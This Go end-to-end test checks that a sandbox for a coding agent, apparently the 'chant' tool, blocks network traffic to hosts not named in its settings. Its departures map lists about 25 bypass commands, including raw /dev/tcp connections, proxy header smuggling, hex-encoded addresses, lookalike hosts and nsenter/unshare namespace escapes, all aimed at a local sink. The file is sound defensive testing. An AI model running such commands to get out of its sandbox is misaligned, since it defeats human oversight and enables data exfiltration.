package e2e

import (
	"fmt"
	"maps"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"

	"github.com/alecthomas/assert/v2"
)

// sink is what an agent would send files to: on this machine, but in the place of any other host.
type sink struct {
	port, udp, abstract string
	mu                  sync.Mutex
	got                 []string
}

func (s *sink) note(what string) {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.got = append(s.got, what)
}

// newSink listens in all ways in which the attempts below try to reach it.
func newSink(t *testing.T) *sink {
	t.Helper()
	s := &sink{abstract: "chant-e2e-" + filepath.Base(t.TempDir()) + strings.ReplaceAll(t.Name(), "/", "-")}
	tcp, err := net.Listen("tcp", ":0") // of all addresses
	assert.NoError(t, err)
	abstract, err := net.Listen("unix", "@"+s.abstract)
	if err != nil {
		t.Skip(err) // no Linux
	}
	for _, l := range []net.Listener{tcp, abstract} {
		server := &http.Server{
			Handler:   http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) { s.note(l.Addr().Network() + " " + r.URL.Path) }),
			ConnState: func(_ net.Conn, state http.ConnState) { s.note(l.Addr().Network() + " " + state.String()) },
		}
		go func() { _ = server.Serve(l) }()
		t.Cleanup(func() { server.Close() })
	}
	udp, err := net.ListenPacket("udp", ":0")
	assert.NoError(t, err)
	t.Cleanup(func() { udp.Close() })
	go func() {
		for {
			if _, _, err := udp.ReadFrom(make([]byte, 100)); err != nil {
				return
			}
			s.note("udp")
		}
	}()
	_, s.port, _ = net.SplitHostPort(tcp.Addr().String())
	_, s.udp, _ = net.SplitHostPort(udp.LocalAddr().String())
	return s
}

// byProxy is the address of chant's proxy in the network of an agent.
const byProxy = "127.0.0.1:61801"

// departures are ways out of a network in which only named hosts can be reached, by name. In them stand PORT, UDP and ABSTRACT
// for the sink, ADDRESS for an address of this machine and ALLOWED for the host that is named. Some send what they can and
// have no answer: what counts is that the sink gets nothing.
func departures() map[string]string {
	return map[string]string{
		"a connection by address":          "bash -c 'exec 3<>/dev/tcp/127.0.0.1/PORT'",
		"by another address":               "bash -c 'exec 3<>/dev/tcp/ADDRESS/PORT'",
		"by IPv6":                          "curl -sf --noproxy '*' 'http://[::1]:PORT/six'",
		"without the variables":            "env -i PATH=\"$PATH\" curl -sf http://127.0.0.1:PORT/plain",
		"to another port of the proxy":     "curl -sf --noproxy '*' http://127.0.0.1:PORT/noproxy",
		"through the proxy":                "curl -sf -x http://" + byProxy + " http://127.0.0.1:PORT/proxied",
		"through the proxy by name":        "curl -sf -x http://" + byProxy + " http://localhost:PORT/named",
		"through the proxy by a tunnel":    "curl -sf -p -x http://" + byProxy + " http://127.0.0.1:PORT/tunnel",
		"another port of an allowed host":  "curl -sf -p -x http://" + byProxy + " http://proxy.golang.org:PORT/port",
		"a host with the same end":         "curl -sf -x http://" + byProxy + " https://evilproxy.golang.org/",
		"a host below an allowed one":      "curl -sf -x http://" + byProxy + " https://x.proxy.golang.org/",
		"a user that looks like a host":    "curl -sf -p -x http://" + byProxy + " http://ALLOWED@127.0.0.1:PORT/user",
		"a header that names another host": "printf 'GET http://127.0.0.1:PORT/header HTTP/1.1\\r\\nHost: ALLOWED\\r\\nConnection: close\\r\\n\\r\\n' | bash -c 'exec 3<>/dev/tcp/127.0.0.1/61801; cat >&3; head -1 <&3' | grep 200",
		"an address in other words":        "curl -sf -x http://" + byProxy + " http://0x7f000001:PORT/words",
		"a redirection":                    "curl -sfL -x http://" + byProxy + " http://ALLOWED/redirect",
		"the end of the tunnel as a proxy": "curl -sf -p -x http://ALLOWED http://127.0.0.1:PORT/chain",
		"UDP":                              "bash -c 'echo x > /dev/udp/127.0.0.1/UDP; echo x > /dev/udp/ADDRESS/UDP'; false",
		"an abstract socket":               "curl -sf --noproxy '*' --abstract-unix-socket ABSTRACT http://x/abstract",
		"git":                              "git ls-remote http://127.0.0.1:PORT/git",
		"git without settings":             "env -i PATH=\"$PATH\" git ls-remote http://ADDRESS:PORT/bare",
		"the network of chant":             "nsenter --net=/proc/$PPID/ns/net curl -sf --noproxy '*' http://127.0.0.1:PORT/ns",
		"the network of the first process": "nsenter --net=/proc/1/ns/net curl -sf --noproxy '*' http://127.0.0.1:PORT/ns1",
		"a namespace of users":             "unshare -Ur nsenter --net=/proc/1/ns/net curl -sf --noproxy '*' http://127.0.0.1:PORT/user-ns",
		"an interface of its own":          "unshare -Urn sh -c 'ip link set lo up; curl -sf --noproxy \"*\" http://127.0.0.1:PORT/new'",
		"a new interface":                  "ip link add v0 type veth peer name v1 netns 1",
	}
}

// TestCheats_network has an agent try to send something elsewhere than to the hosts that the settings name, while it works and
// by what its criteria run. One host is reached: the tests of what is refused would pass without any network.
func TestCheats_network(t *testing.T) {
	t.Parallel()
	needsOwnNetwork(t)
	for _, tool := range []string{"bash", "curl", "nsenter", "unshare"} {
		if _, err := exec.LookPath(tool); err != nil {
			t.Skip(err)
		}
	}
	for name, by := range map[string]string{"of its user": "", "in a user namespace": "setpriv --bounding-set=-sys_admin"} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			oneOf(t, 3)
			p := newWalledProject(t)
			if by != "" { // who may make a network only in a user namespace, as people may who are not root
				if out, err := exec.Command("sh", "-c", by+" unshare -Un true").CombinedOutput(); err != nil {
					t.Skipf("%v: %s", err, out)
				}
				p.tool("chant-by", "#!/bin/sh\nexec "+by+" '"+p.program+"' \"$@\"\n")
				p.program = p.home("bin/chant-by")
			}
			testDepartures(t, p)
		})
	}
}

func testDepartures(t *testing.T, p *project) {
	s := newSink(t)
	var allowed []string
	web := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		s.mu.Lock()
		defer s.mu.Unlock()
		allowed = append(allowed, r.URL.Path)
		if r.URL.Path == "/redirect" {
			http.Redirect(w, r, "http://127.0.0.1:"+s.port+"/redirected", http.StatusFound)
		}
	}))
	t.Cleanup(web.Close)
	host := strings.TrimPrefix(web.URL, "http://")
	fill := strings.NewReplacer("PORT", s.port, "UDP", s.udp, "ABSTRACT", s.abstract, "ADDRESS", anAddress(t), "ALLOWED", host)
	script := "curl -sf --noproxy '*' " + web.URL + "/direct && curl -sf -x http://" + byProxy + " " + web.URL + "/proxied && curl -sf -p -x http://" + byProxy + " " + web.URL + "/tunnel && echo reached the host || echo no host\n" +
		"chant verify \"$CHANT_SPEC_ID\" && echo verified inside\n" // whose commands are in the network of what chant started for the agent
	for _, name := range slices.Sorted(maps.Keys(departures())) {
		script += "if (" + fill.Replace(departures()[name]) + ") < /dev/null > /dev/null 2>&1; then echo '== reached: " + name + "'; fi\n"
	}
	own, _ := os.Hostname()
	p.write(".chant/config.md", "---\ndefaults: {provider: shell}\nsandbox: {network: models, hosts: [\""+host+"\", proxy.golang.org, "+own+"]}\n---\n")
	p.git("commit", "-q", "-m", "settle", "--", ".chant/config.md")
	const id = "2026-01-02-001-abc"
	text := "---\nstatus: pending\n---\n# Send something\n\n## Script\n\n```sh\n" + script + "curl -s -x http://" + byProxy + " http://" + own + "/own\necho x > x.txt\n```\n\n## Acceptance Criteria\n\n" +
		"- [ ] nothing else is reached `$ ! " + fill.Replace("bash -c 'exec 3<>/dev/tcp/127.0.0.1/PORT'") + "`\n" +
		"- [ ] the host is reached `$ curl -sf " + web.URL + "/criterion`\n"
	p.addFile(id, text)
	p.chant("work", id)
	log := p.chant("log", id)
	assert.Contains(t, log, "reached the host")
	assert.Contains(t, log, "verified inside")
	assert.NotContains(t, log, "== reached: ")
	s.mu.Lock()
	defer s.mu.Unlock()
	assert.Zero(t, s.got, "the sink got %q", s.got)
	for _, path := range []string{"/direct", "/proxied", "/tunnel", "/redirect", "/criterion"} {
		assert.SliceContains(t, allowed, path, "the host that is named")
	}
	for _, once := range []string{"127.0.0.1:" + s.port, "evilproxy.golang.org:443", "x.proxy.golang.org:443", "proxy.golang.org:" + s.port} {
		assert.Equal(t, 1, strings.Count(log, fmt.Sprintf("sandbox: connection to %q refused: ", once)), "the log does not name %s once:", once)
	}
	if addresses, err := net.LookupHost(own); err == nil && !strings.Contains(log, "which is not public") {
		t.Errorf("%s leads to %q, and the log does not say that this was refused:\n%s", own, addresses, log)
	}
	if note := p.git("notes", "--ref=chant", "show", p.git("rev-parse", "main^2")); !strings.Contains(note, `"network": "models"`) {
		t.Errorf("the evidence does not name the network: %s", note)
	}
}

// anAddress is one of this machine that is not of the loopback interface, where it has one.
func anAddress(t *testing.T) string {
	t.Helper()
	all, err := net.InterfaceAddrs()
	assert.NoError(t, err)
	for _, a := range all {
		if ip, is := a.(*net.IPNet); is && ip.IP.IsGlobalUnicast() && ip.IP.To4() != nil {
			return ip.IP.String()
		}
	}
	return "127.0.0.2"
}
